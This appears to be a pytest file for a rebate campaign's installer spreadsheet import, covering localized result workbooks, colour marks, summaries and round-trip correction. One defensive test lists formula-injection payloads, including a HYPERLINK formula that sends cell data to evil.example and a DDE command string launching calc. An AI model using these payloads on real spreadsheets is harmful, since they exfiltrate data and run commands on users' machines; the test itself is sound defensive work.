"""The installer's rows back with their results, a summary, and nothing that can run."""

from __future__ import annotations

import io
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal

import openpyxl
import pytest
from template_support import TRANSLATORS, csv_text

from core.campaign import Campaign
from core.eligibility import CompanyFacts, IneligibilityReason, Verdict, evaluate
from core.masterdata import Device, InMemoryMasterData
from core.statuses import Status
from core.template import (
    Mark,
    ReadResult,
    RowProblem,
    RowResult,
    build_result_workbook,
    content_hash,
    neutralise,
    read_rows,
)

HEADER = ["Numéro de série", "Produit", "Date d'installation", "Remarque"]
COMPANY = CompanyFacts(customer_number="C-1", enrolled=True)
NOW = datetime(2026, 6, 1, 9, 0, tzinfo=UTC)


def upload(campaign: Campaign, rows: list[list[str]]) -> ReadResult:
    return read_rows(csv_text([HEADER, *rows]).encode(), "f.csv", campaign)


def judge(read: ReadResult, campaign: Campaign) -> list[RowResult]:
    """What the import use case does: evaluate valid rows, report the others."""
    masterdata = InMemoryMasterData({
        "3012345678": Device("3012345678", "STP-SE", None),
        "3012345679": Device("3012345679", "SHM", None),
    })
    results = []
    for row in read.rows:
        if not row.ok:
            results.append(RowResult.of(row))
            continue
        verdict = evaluate(row.claim(company=COMPANY, registered_at=NOW), campaign,
                           masterdata, None)
        results.append(RowResult.of(row, verdict))
    return results


def open_result(read: ReadResult, results: list[RowResult], campaign: Campaign,
                language: str = "fr") -> openpyxl.Workbook:
    data = build_result_workbook(read, results, campaign, language, TRANSLATORS[language])
    return openpyxl.load_workbook(io.BytesIO(data))


def test_each_row_comes_back_with_a_localized_result(fr_campaign: Campaign) -> None:
    read = upload(fr_campaign, [["3012345678", "STP-SE", "01/03/2026", "toit"],
                                ["3012345677", "STP-SE", "01/03/2026", ""],
                                ["3012345679", "Sunny Boy", "01/03/2026", ""]])
    sheet = open_result(read, judge(read, fr_campaign), fr_campaign).worksheets[0]
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert sheet.title == "Résultats"
    assert rows[0][:5] == ["Row", *HEADER]
    assert rows[0][5] == "Résultat"
    assert rows[1][0] == 2
    assert rows[1][5] in ("Enregistrement terminé, paiement en attente",
                          "Additional information required – upload a file")
    assert rows[2][5] == "Registration not possible"
    assert "3012345677" in rows[2][6]
    assert "3012345678" in rows[2][6]  # did you mean
    assert rows[3][5] == "Non enregistré"
    assert rows[3][6] == "Product not recognised: please choose it from the list."


def test_rejected_rows_are_filled_in_red_and_rows_needing_proof_in_amber(
        fr_campaign: Campaign) -> None:
    read = upload(fr_campaign, [["3012345678", "STP-SE", "01/03/2026", ""],
                                ["3012345670", "STP-SE", "01/03/2026", ""],
                                ["", "STP-SE", "01/03/2026", ""]])
    results = [
        RowResult(2, "3012345678", Verdict(serial="3012345678", status=Status.INFO_REQUIRED,
                                           product_code="STP-SE", amount=Decimal(100))),
        RowResult(3, "3012345670", Verdict(serial="3012345670", status=Status.INELIGIBLE,
                                           reason=IneligibilityReason.SERIAL_UNKNOWN)),
        RowResult.of(read.rows[2]),
    ]
    sheet = open_result(read, results, fr_campaign).worksheets[0]
    colours = [sheet.cell(row=line, column=2).fill.fgColor.rgb for line in (2, 3, 4)]
    assert colours[0].endswith("FFE699")
    assert colours[1].endswith("F8CBAD")
    assert colours[2].endswith("F8CBAD")
    assert [result.mark for result in results] == [Mark.PROOF, Mark.REJECTED, Mark.REJECTED]


def test_summary_counts_and_amounts_per_status_as_currency(fr_campaign: Campaign) -> None:
    read = upload(fr_campaign, [["3012345678", "STP-SE", "01/03/2026", ""],
                                ["3012345679", "SHM", "01/03/2026", ""],
                                ["3012345670", "STP-SE", "01/03/2026", ""],
                                ["3012345671", "STP-SE", "01/03/2026", ""],
                                ["3012345672", "", "01/03/2026", ""]])
    pending = Status.PENDING_PAYMENT
    results = [
        RowResult(2, "3012345678", Verdict("3012345678", pending, "STP-SE", Decimal(100))),
        RowResult(3, "3012345679", Verdict("3012345679", pending, "SHM", Decimal(30))),
        RowResult(4, "3012345670", Verdict("3012345670", Status.INELIGIBLE,
                                           reason=IneligibilityReason.SERIAL_UNKNOWN)),
        RowResult(5, "3012345671", Verdict(
            "3012345671", Status.INELIGIBLE,
            reason=IneligibilityReason.ALREADY_REGISTERED_BY_COMPANY)),
        RowResult.of(read.rows[4]),
    ]
    summary = open_result(read, results, fr_campaign).worksheets[1]
    lines = {row[0].value: row for row in summary.iter_rows(min_row=4) if row[0].value}
    assert summary.title == "Synthèse"
    pending_line = lines["Enregistrement terminé, paiement en attente"]
    assert (pending_line[1].value, pending_line[2].value) == (2, 130)
    assert "€" in pending_line[2].number_format
    assert lines["Registration not possible"][1].value == 1
    assert lines["Already registered by your company"][1].value == 1
    assert lines["Not registered: rows to correct"][1].value == 1
    assert (lines["Total"][1].value, lines["Total"][2].value) == (5, 130)


@pytest.mark.parametrize("hostile", [
    '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez ici")', "+1+1", "-2+3", "@SUM(A1:A2)",
    "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0",
])
def test_user_text_is_never_written_as_a_formula(fr_campaign: Campaign, hostile: str) -> None:
    quoted = '"' + hostile.replace('"', '""') + '"'
    read = upload(fr_campaign, [[quoted, quoted, "01/03/2026", quoted],
                                ["3012345678", "STP-SE", "01/03/2026", quoted]])
    data = build_result_workbook(read, judge(read, fr_campaign), fr_campaign, "fr",
                                 TRANSLATORS["fr"])
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert all(b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
                   for name in archive.namelist() if name.startswith("xl/worksheets/"))
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_neutralise_prefixes_formula_triggers_and_drops_control_characters() -> None:
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("@SUM(A1)") == "'@SUM(A1)"
    assert neutralise("Sunny Home Manager") == "Sunny Home Manager"
    assert neutralise("a\x00b\x07c") == "abc"
    assert neutralise("") == ""


def test_result_workbook_can_be_corrected_and_sent_back(fr_campaign: Campaign) -> None:
    read = upload(fr_campaign, [["3012345678", "Sunny Boy", "01/03/2026", "toit"]])
    data = build_result_workbook(read, judge(read, fr_campaign), fr_campaign, "fr",
                                 TRANSLATORS["fr"])
    again = read_rows(data, "resultats.xlsx", fr_campaign)
    assert again.rows[0].serial == "3012345678"
    assert again.rows[0].problem is RowProblem.UNKNOWN_PRODUCT
    assert again.rows[0].installed_on == date(2026, 3, 1)


def test_result_columns_are_replaced_when_a_result_workbook_comes_back(
        fr_campaign: Campaign) -> None:
    read = upload(fr_campaign, [["3012345678", "Sunny Boy", "01/03/2026", "toit"]])
    first = build_result_workbook(read, judge(read, fr_campaign), fr_campaign, "fr",
                                  TRANSLATORS["fr"])
    workbook = openpyxl.load_workbook(io.BytesIO(first))
    workbook.worksheets[0]["C2"] = "STP-SE"
    corrected = io.BytesIO()
    workbook.save(corrected)
    again = read_rows(corrected.getvalue(), "resultats.xlsx", fr_campaign)
    second = open_result(again, judge(again, fr_campaign), fr_campaign).worksheets[0]
    headings = [cell.value for cell in second[1]]
    assert headings.count("Row") == 1
    assert headings.count("Résultat") == 1
    assert second.cell(row=2, column=headings.index("Résultat") + 1).value != "Non enregistré"


def test_row_result_of_a_valid_row_needs_its_verdict(fr_campaign: Campaign) -> None:
    read = upload(fr_campaign, [["3012345678", "STP-SE", "01/03/2026", ""]])
    with pytest.raises(ValueError, match="give its verdict"):
        RowResult.of(read.rows[0])


def test_a_row_with_a_problem_cannot_become_a_claim(fr_campaign: Campaign) -> None:
    read = upload(fr_campaign, [["3012345678", "", "01/03/2026", ""]])
    with pytest.raises(ValueError, match="cannot be claimed"):
        read.rows[0].claim(company=COMPANY, registered_at=NOW)


def test_the_same_bytes_always_give_the_same_content_hash() -> None:
    assert content_hash(b"abc") == content_hash(b"abc")
    assert content_hash(b"abc") != content_hash(b"abd")
    assert content_hash(b"") == \
        "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"


def test_the_result_sheet_keeps_its_header_in_view_and_can_be_filtered(
        fr_campaign: Campaign) -> None:
    read = upload(fr_campaign, [["3012345678", "STP-SE", "01/03/2026", ""],
                                ["3012345679", "Sunny Boy", "01/03/2026", ""]])
    workbook = open_result(read, judge(read, fr_campaign), fr_campaign)
    sheet = workbook.worksheets[0]
    assert sheet.freeze_panes == "B2"
    assert sheet.auto_filter.ref == f"A1:{sheet.cell(1, sheet.max_column).column_letter}3"
    assert sheet.column_dimensions["A"].width == 8
    assert workbook.worksheets[1].column_dimensions["A"].width == 55
